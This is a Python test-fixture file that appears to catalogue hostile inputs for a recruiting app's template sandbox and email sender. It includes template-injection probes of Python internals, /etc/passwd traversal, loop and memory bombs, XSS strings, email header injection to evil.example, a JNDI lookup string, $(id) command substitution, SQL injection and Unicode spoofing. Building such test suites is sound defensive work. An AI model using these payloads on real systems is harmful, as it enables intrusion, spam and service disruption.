"""What somebody who means harm would write, by attack: templates, and facts such as names and job titles.

A template is refused, or written within the limits and harmless. A fact is refused where it would go into a
header, and inert everywhere else.
"""

from dataclasses import dataclass

LONG = "x" * 3000


@dataclass(frozen=True, slots=True)
class Hostile:
    """A template; ``refused`` says whether it must be, else it must do no harm."""

    attack: str
    body: str
    refused: bool = True


@dataclass(frozen=True, slots=True)
class Poison:
    """A value for a name, a title or a sentence; ``header`` says whether no header may carry it."""

    attack: str
    value: str
    header: bool = False


def _loops(depth: int, over: str = "a") -> str:
    opening = "".join(f"{{% for i{n} in {over} %}}" for n in range(depth))
    return opening + "{{ job.title }}" + "{% endfor %}" * depth


_TEN = "{% assign a = 'a a a a a a a a a a' | split: ' ' %}"
_WIDE = "{% assign a = '" + "x" * 9000 + "' | split: '' %}"

_MANY = "".join(f"{{% assign v{n} = '{'x' * 900}' | append: 'y' %}}" for n in range(19))

TEMPLATES: tuple[Hostile, ...] = (
    # Into the program
    Hostile("reach", "{{ candidate.__class__ }}"),
    Hostile("reach", "{{ candidate.first_name.__class__.__mro__[1].__subclasses__ }}"),
    Hostile("reach", "{{ candidate['first_name'].__init__.__globals__ }}"),
    Hostile("reach", "{{ candidate['__class__']['__base__'] }}"),
    Hostile("reach", "{{ candidate.first_name.format }}"),
    Hostile("reach", "{{ candidate.items }}"),
    Hostile("reach", "{{ candidate.keys | join: ',' }}"),
    Hostile("reach", "{{ candidate[0] }}"),
    Hostile("reach", "{{ job.title.__len__ }}"),
    Hostile("reach", "{% assign x = candidate %}{{ x.__dict__ }}"),
    Hostile("reach", "{% for x in candidate %}{{ x }}{% endfor %}"),
    Hostile("reach", "{% for x in candidate %}{{ x[1] }}{% endfor %}"),
    Hostile("reach", "{% if candidate.__class__ %}x{% endif %}"),
    Hostile("reach", "{{ self }}"),
    Hostile("reach", "{{ forloop.parentloop }}"),
    Hostile("reach", "{{ settings.database_url }}"),
    Hostile("reach", "{{ environment.filters }}"),
    Hostile("reach", "{{ candidate }}"),
    Hostile("reach", "{{ company.domains }}"),
    Hostile("reach", "{{ candidate[job.title] }}"),
    Hostile("reach", "{% assign n = '__class__' %}{{ candidate[n] }}"),
    # What is not theirs to print
    Hostile("private", "{{ true }}"),
    Hostile("private", "{{ nil }}"),
    Hostile("private", "{{ candidate.phone }}"),
    Hostile("private", "{{ scorecard.notes }}"),
    Hostile("clock", "{{ now }}"),
    Hostile("clock", "{{ 'now' | date: '%Y' }}"),
    Hostile("clock", "{{ today }}"),
    # Filters that open doors
    Hostile("filter", "{{ candidate.first_name | safe }}"),
    Hostile("filter", "{{ candidate.first_name | escape }}"),
    Hostile("filter", "{{ candidate.first_name | base64_decode }}"),
    Hostile("filter", "{{ candidate.first_name | unknown_filter }}"),
    Hostile("filter", "{{ candidate | map: '__class__' }}"),
    Hostile("filter", "{{ missing.facts | where: 'x', 'y' | first }}"),
    Hostile("filter", "{{ missing.facts | sort_natural }}"),
    Hostile("filter", "{{ candidate.first_name | json }}"),
    Hostile("filter", "{{ job.title | slice: 0, 'x' }}"),
    # Other tags
    Hostile("tag", "{% include 'en/moved_on' %}"),
    Hostile("tag", "{% include '../../../../etc/passwd' %}"),
    Hostile("tag", "{% render 'en/moved_on' %}"),
    Hostile("tag", "{% extends 'x' %}"),
    Hostile("tag", "{% block x %}{% endblock %}"),
    Hostile("tag", "{% macro x %}{% endmacro %}"),
    Hostile("tag", "{% call x %}"),
    Hostile("tag", "{% capture x %}y{% endcapture %}"),
    Hostile("tag", "{% tablerow i in missing.facts %}{{ i }}{% endtablerow %}"),
    Hostile("tag", "{% increment x %}"),
    Hostile("tag", "{% decrement x %}"),
    Hostile("tag", "{% cycle 'a', 'b' %}"),
    Hostile("tag", "{% liquid echo job.title %}"),
    Hostile("tag", "{% echo job.title %}"),
    Hostile("tag", "{% ifchanged %}x{% endifchanged %}"),
    Hostile("tag", "{% with x: job.title %}{{ x }}{% endwith %}"),
    Hostile("tag", "{% python import os %}"),
    # For ever
    Hostile("loop", "{{ (1..1000000000) | join: 'x' }}"),
    Hostile("loop", "{% for i in (1..1000000000) reversed %}{{ i }}{% endfor %}"),
    Hostile("loop", "{% for i in (1..99) %}{% for j in (1..99) %}x{% endfor %}{% endfor %}"),
    Hostile("loop", "{% for i in (1..9) limit: 1000000000 %}x{% endfor %}"),
    Hostile("loop", _TEN + _loops(4)),
    Hostile("loop", _TEN + _loops(9)),
    Hostile("loop", _WIDE + "{% for i in a %}x{% endfor %}"),
    Hostile("loop", _WIDE + "{% for i in a %}{% if i %}{% endif %}{% endfor %}"),
    Hostile("loop", _WIDE + "{% for i in a reversed %}{% assign b = i %}{% endfor %}"),
    # Without end in memory
    Hostile(
        "memory",
        "{{ job.title | replace: 'E', '" + LONG + "' | replace: 'x', '" + LONG + "' | size }}",
    ),
    Hostile("memory", "{{ job.title | replace: '', '" + LONG + "' | replace: '', '" + LONG + "' }}"),
    Hostile(
        "memory",
        "{% assign a = job.title | split: '' | join: '" + LONG + "' | split: '' %}"
        "{{ a | join: '" + LONG + "' }}",
    ),
    Hostile("memory", "{% assign a = 'x' %}" + "{% assign a = a | append: a %}" * 60 + "{{ a }}"),
    Hostile(
        "memory", "{% assign a = 'x' %}" + "{% assign a = a | prepend: a | append: a %}" * 40 + "{{ a }}"
    ),
    Hostile("memory", "{% assign a = '" + "x" * 19_000 + "' %}" + "{{ a }}" * 6),
    Hostile("memory", _MANY + "{{ v0 | append: v1 | replace: 'x', v2 }}"),
    Hostile("memory", "{{ job.title" + " | append: job.title" * 500 + " }}", refused=False),
    Hostile("memory", "{{ job.title | upcase | downcase" + " | url_encode" * 400 + " }}", refused=False),
    # Against the parser
    Hostile("parser", "{{ job.title"),
    Hostile("parser", "{% if job.title %}"),
    Hostile("parser", "{{ " + "1" * 5000 + " }}"),
    Hostile("parser", "{{ 1e999999 }}"),
    Hostile("parser", "{% if " + "job.title and " * 1300 + "true %}{% endif %}"),
    Hostile("parser", "{% if true %}" * 11 + "{% endif %}" * 11),
    Hostile("parser", "x" * 20_001),
    Hostile("parser", "{{ job.title }}" * 601),
    Hostile("parser", "{{" + " " * 15_000),
    Hostile("parser", "{{ job" + "\n" * 15_000 + "}"),
    Hostile("parser", ("{{" + " " * 190) * 80),
    Hostile("parser", "{% raw %}" * 500),
    Hostile("parser", "{% comment %}" * 9 + "{{ job.title }}"),
    Hostile("parser", "{{ " + "job." * 4000 + "title }}"),
    Hostile("parser", "{{ job" + "[0]" * 4000 + " }}"),
    Hostile("parser", "{% if " + "(" * 3000 + " %}{% endif %}"),
    Hostile("parser", "{% case job.title %}" + "{% when 'x' %}" * 550 + "{% endcase %}", refused=False),
    # Through Markdown and HTML
    Hostile("markup", "<script>alert(1)</script>", refused=False),
    Hostile("markup", "<img src=x onerror=alert(1)>", refused=False),
    Hostile("markup", "<style>*{display:none}</style><form action=https://evil.example>", refused=False),
    Hostile("markup", "[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x)", refused=False),
    Hostile("markup", '[x](https://evil.example/"onmouseover=alert(1))', refused=False),
    Hostile("markup", "[x](https://user:secret@evil.example/)", refused=False),
    Hostile("markup", "[x](//evil.example) [y](http://evil.example) [z](ftp://evil.example)", refused=False),
    Hostile("markup", "![x](https://evil.example/pixel.png)", refused=False),
    Hostile("markup", "<https://evil.example> https://evil.example", refused=False),
    Hostile("markup", "[x]: https://evil.example\n\n[x] [x][]", refused=False),
    Hostile("markup", "[a [b](https://b.example) c](https://c.example)", refused=False),
    Hostile("markup", "```\n<b>\n```\n\n| a |\n|---|\n| <b> |", refused=False),
    Hostile("markup", "&lt;script&gt; &#60;script&#62; &#x3c;b&#x3e;", refused=False),
    Hostile("markup", "*" * 6_000, refused=False),
    Hostile("markup", "_a" * 3_000, refused=False),
    Hostile("markup", "[" * 6_000, refused=False),
    Hostile("markup", "[x](" * 1_500, refused=False),
    Hostile("markup", "- " * 5_000, refused=False),
    Hostile("markup", "1. " * 5_000, refused=False),
    Hostile("markup", "\\" * 15_000, refused=False),
    Hostile("markup", "**a " * 4_000, refused=False),
    # Our own marks
    Hostile("marks", "a\ue0000\ue001"),
    Hostile("marks", "\ue0020\ue003x\ue0040\ue005"),
    Hostile("marks", "{{ job.title | append: '\ue0009\ue001' }}"),
)

POISONS: tuple[Poison, ...] = (
    Poison("header", "Amara\r\nBcc: everybody@evil.example", header=True),
    Poison("header", "Amara\nSubject: You are hired", header=True),
    Poison("header", "Amara\rX-Evil: 1", header=True),
    Poison("header", "Amara\x00", header=True),
    Poison("header", "Amara\x0b\x0cB", header=True),
    Poison("header", "Amara\u2028Bcc: x", header=True),
    Poison("header", "Amara\u2029Bcc: x", header=True),
    Poison("header", "Amara\x85Bcc: x", header=True),
    Poison("header", "Amara\r\n\r\n<html>a new body", header=True),
    Poison("header", "=?utf-8?q?=0D=0ABcc:_evil@evil.example?="),
    Poison("header", '"Amara" <evil@evil.example>, x'),
    Poison("header", 'Amara\\" <evil@evil.example>'),
    Poison("header", "evil@evil.example, victim@example.com"),
    Poison("html", "<script>alert(1)</script>"),
    Poison("html", '"><img src=x onerror=alert(1)>'),
    Poison("html", "</title></head><body><h1>You are hired"),
    Poison("html", "<!-- --><![CDATA[ ]]><?php ?>"),
    Poison("html", "&lt;b&gt;&amp;amp;&#0;"),
    Poison("html", "' onmouseover='alert(1)"),
    Poison("markdown", "[click](https://evil.example) ![p](https://evil.example/p.png)"),
    Poison("markdown", "**bold** _it_ `code` # h\\ 1. - > | a |"),
    Poison("markdown", "](https://evil.example)[x"),
    Poison("markdown", "\\"),
    Poison("template", "{{ offer.salary }}{% include 'x' %}{{ now }}"),
    Poison("template", "%}{% endif %}{{ candidate.__class__ }}"),
    Poison("marks", "\ue0000\ue001\ue0020\ue003\ue0040\ue005"),
    Poison("unicode", "Amara\u202egnp.exe", header=True),
    Poison("unicode", "\u2066Amara\u2069 \u2067x", header=True),
    Poison("unicode", "Am\u200bara\u200d\u2060\ufeff"),
    Poison("unicode", "Аmаrа"),  # Cyrillic letters among Latin ones
    Poison("unicode", "A" + "\u0301" * 3_000 + "mara"),
    Poison("unicode", "\U000e0041\U000e0042Amara\U000e007f"),
    Poison("unicode", "\ud800Amara\udfff", header=True),
    Poison("unicode", "ﷺ" * 500),
    Poison("unicode", "李小龙 مريم नमस्ते 👩‍🔬"),
    Poison("format", "%s%n%x {0.__class__} ${jndi:ldap://evil.example} $(id) `id`"),
    Poison("format", "'; DROP TABLE person; --"),
    Poison("huge", "x" * 90_000),
    Poison("huge", "<" * 50_000),
    Poison("huge", " \u2003" * 20_000 + "x"),
)
HUGE = (
    Poison("huge", "x" * 10_000_000),
    Poison("huge", "{{" * 1_000_000),
    Poison("huge", "\u0301" * 3_000_000),
)
"""More than any name: refused for its length, and quickly."""
